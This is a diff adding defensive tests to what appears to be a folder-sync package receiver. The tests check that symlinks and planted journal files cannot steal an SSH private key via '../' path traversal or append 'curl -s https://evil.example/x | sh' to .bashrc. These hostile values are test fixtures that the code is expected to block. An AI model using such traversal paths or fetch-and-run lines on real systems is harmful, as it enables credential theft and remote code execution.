@@ -232,6 +232,80 @@ describe('a roll-forward that cannot finish', () => {
   });
 });
 
+describe('leftovers planted by someone who can write the world (a synced folder)', () => {
+  /** A journal of the shape receive writes, with the given steps. */
+  const journalText = (id: string, steps: { moves?: unknown[]; mkdirs?: string[]; log?: unknown }) =>
+    JSON.stringify({
+      version: 1,
+      id,
+      package_sha256: 'e'.repeat(64),
+      target: '05_Experiments/x',
+      mkdirs: steps.mkdirs ?? [],
+      moves: steps.moves ?? [],
+      log: steps.log ?? null,
+      now: null,
+      ledger: {
+        package_sha256: 'e'.repeat(64),
+        format_version: '2.0.0',
+        walnut: 'x',
+        scope: 'full',
+        created: null,
+        sender: null,
+        signer: null,
+        signature_verified: false,
+        received_at: '2026-01-01T00:00:00Z',
+        source: '/x.walnut',
+        target: '05_Experiments/x',
+        imported: [],
+        conflicts: [],
+        receipt: id,
+      },
+      result: {},
+    });
+
+  it('a linked .alive/receiving is refused before anything is deleted or staged through it', async () => {
+    const base = tmp();
+    const env = testEnv(base);
+    const world = makeWorld(base, { layout: 'v2' });
+    const documents = join(base, 'Documents');
+    mkdirSync(join(documents, 'taxes'), { recursive: true });
+    writeFileSync(join(documents, 'taxes', '2025.pdf'), 'mine\n');
+    symlinkSync('../../Documents', join(world, '.alive', 'receiving'));
+    await expect(receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env })).rejects.toThrow(/receiving.* is a link/);
+    expect(readFileSync(join(documents, 'taxes', '2025.pdf'), 'utf8')).toBe('mine\n');
+    expect(readdirSync(documents)).toEqual(['taxes']);
+  });
+
+  it('a planted journal moves nothing from outside its staging folder, and writes nothing through a link out of the world', async () => {
+    const base = tmp();
+    const env = testEnv(base);
+    const world = makeWorld(base, { layout: 'v2' });
+    const home = join(base, 'home');
+    mkdirSync(join(home, '.ssh'), { recursive: true });
+    writeFileSync(join(home, '.ssh', 'id_ed25519'), 'secret key\n');
+    writeFileSync(join(home, '.bashrc'), 'export A=1\n');
+    symlinkSync('../../home', join(world, '02_Life', 'shortcut'));
+    const receiving = join(world, '.alive', 'receiving');
+    mkdirSync(join(receiving, 'planted-1'), { recursive: true });
+    const reachOut = `${'../'.repeat(8)}${home.slice(1)}/.ssh/id_ed25519`;
+    writeFileSync(join(receiving, 'planted-1', 'journal.json'), journalText('planted-1', { moves: [{ from: reachOut, to: '04_Ventures/stolen_key' }] }));
+    mkdirSync(join(receiving, 'planted-2'), { recursive: true });
+    writeFileSync(
+      join(receiving, 'planted-2', 'journal.json'),
+      journalText('planted-2', {
+        log: { path: '02_Life/shortcut/.bashrc', entry: 'curl -s https://evil.example/x | sh\n', walnut: 'x', timestamp: '2026-01-01T00:00:00Z', summary: 's' },
+      }),
+    );
+    const r = await receivePackage({ packagePath: await fullPkg(base), world, maxBytes: MAX, env });
+    expect(readFileSync(join(home, '.ssh', 'id_ed25519'), 'utf8')).toBe('secret key\n');
+    expect(existsSync(join(world, '04_Ventures', 'stolen_key'))).toBe(false);
+    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('export A=1\n');
+    const note = r.notes.join('\n');
+    expect(note).toMatch(/planted-1.*cannot be finished/);
+    expect(note).toMatch(/planted-2.*cannot be finished/);
+  });
+});
+
 describe('receive.lock cannot outlive its process', () => {
   const initStart = processStartTime(1);
   it.skipIf(initStart === undefined)('a lock whose pid now belongs to another process (pid reused) is stale and taken over', async () => {
